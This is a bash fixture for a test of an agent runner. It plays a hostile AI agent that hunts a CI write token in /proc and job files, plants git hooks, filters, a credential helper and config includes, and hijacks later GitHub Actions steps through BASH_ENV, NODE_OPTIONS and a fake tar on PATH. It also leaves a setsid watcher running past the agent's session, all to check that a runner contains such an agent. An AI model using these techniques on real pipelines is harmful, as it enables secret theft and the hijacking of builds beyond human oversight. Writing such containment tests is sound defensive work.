#!/usr/bin/env bash
# A hostile agent (test/runner/hostile.test.ts). It looks for the publish
# job's write token everywhere an agent can look, plants every way git runs a
# program of the repository's choosing, steers the later steps of its job,
# and leaves a watcher running for the rest of the run — and still does its
# batch's work, which must reach the pull request.
#
# $OUT/patterns: the token in every form it could travel in (the test writes it).
# $OUT/findings: where and how it was found (must stay empty).
# $OUT/ran-git:  each time git ran a planted program, and in which job (must stay empty).
# $OUT/ran-steered: each later step the agent steered, and in which job.
set -u
out="$OUT"
patterns="$out/patterns"
spy="$out/spy.sh"

# What every planted program does when it runs: say so, and look for the token in its environment.
cat > "$spy" <<EOF
#!/usr/bin/env bash
echo "\${PC_JOB:-?} \$1" >> "$out/ran-git"
env | grep -qF -f "$patterns" && echo "environment of git's \$1 (\${PC_JOB:-?})" >> "$out/findings"
[ "\$1" = clean ] || [ "\$1" = smudge ] && cat
exit 0
EOF
chmod +x "$spy"

# Every process's environment and command line, and every file of the jobs on this machine.
cat > "$out/scan.sh" <<EOF
#!/usr/bin/env bash
grep -laF -f "$patterns" /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | sed "s|^|\$1: |" >> "$out/findings"
grep -rlF --exclude-dir="$(basename "$out")" -f "$patterns" "$(dirname "$(dirname "$RUNNER_TEMP")")" 2>/dev/null | sed "s|^|\$1: file |" >> "$out/findings"
exit 0
EOF
chmod +x "$out/scan.sh"
"$out/scan.sh" "the agent"
echo "scanned $(ls -d /proc/[0-9]* | wc -l) processes" > "$out/probed"

# git: hooks, core.hooksPath, config includes, fsmonitor, clean/smudge filters,
# diff drivers, credential helpers, ssh: each runs the spy if git ever obeys it.
for hook in pre-commit prepare-commit-msg commit-msg post-commit pre-push post-checkout post-merge post-rewrite reference-transaction post-index-change pre-auto-gc; do
  printf '#!/bin/sh\nexec "%s" hook-%s\n' "$spy" "$hook" > ".git/hooks/$hook"
  chmod +x ".git/hooks/$hook"
done
mkdir -p "$out/hooks"
cp .git/hooks/* "$out/hooks/"
cat > "$out/included.gitconfig" <<EOF
[core]
  hooksPath = $out/hooks
  fsmonitor = "$spy fsmonitor-included"
[filter "spy"]
  clean = "$spy clean"
  smudge = "$spy smudge"
EOF
git config core.hooksPath "$out/hooks"
git config core.fsmonitor "$spy fsmonitor"
git config include.path "$out/included.gitconfig"
git config "includeIf.gitdir:/.path" "$out/included.gitconfig"
git config filter.spy.clean "$spy clean"
git config filter.spy.smudge "$spy smudge"
git config diff.spy.textconv "$spy textconv"
git config diff.external "$spy external-diff"
git config credential.helper "!$spy credential"
git config core.sshCommand "$spy ssh"
# The attributes travel with the change, into the verify job's checkout.
printf '* filter=spy diff=spy\n' > src/.gitattributes

# The later steps of this job: BASH_ENV and NODE_OPTIONS through GITHUB_ENV, a
# program of its own first on GITHUB_PATH, found where the Actions runner keeps them.
cat > "$out/steer.sh" <<EOF
# Once per step: every bash it starts sources BASH_ENV again.
if [ -z "\${STEERED:-}" ]; then
  export STEERED=1
  echo "\${PC_JOB:-?} \${STEERED_BY:-BASH_ENV}" >> "$out/ran-steered"
  env | grep -qF -f "$patterns" && echo "a steered step's environment (\${PC_JOB:-?})" >> "$out/findings"
  "$out/scan.sh" "a steered step"
fi
EOF
printf 'require("child_process").execFileSync("bash", ["%s"], { env: { ...process.env, STEERED_BY: "NODE_OPTIONS" } });\n' "$out/steer.sh" > "$out/steer.cjs"
mkdir -p "$out/bin"
printf '#!/bin/sh\nSTEERED_BY=GITHUB_PATH bash "%s"\n' "$out/steer.sh" > "$out/bin/tar"
chmod +x "$out/bin/tar"
for file in "$RUNNER_TEMP"/_runner_file_commands/set_env_*; do
  printf 'BASH_ENV=%s\nNODE_OPTIONS=--require %s\n' "$out/steer.sh" "$out/steer.cjs" >> "$file"
done
for file in "$RUNNER_TEMP"/_runner_file_commands/add_path_*; do
  echo "$out/bin" >> "$file"
done

# A watcher in a session of its own, out of the agent's process group: it
# outlives the agent and reads every process and file until the test ends it.
setsid bash -c "echo \$\$ > \"$out/watcher.pid\"; while :; do \"$out/scan.sh\" 'the watcher'; sleep 0.2; done" > /dev/null 2>&1 < /dev/null &

# The batch's work, which must still reach the pull request.
echo "export const b = 2;" >> src/a.ts
printf 'export const n = 1;\n' > src/new.ts
mkdir -p .parallel-coordinator
echo '{"summary": "Added n and b."}' > "$PARALLEL_COORDINATOR_REPORT"
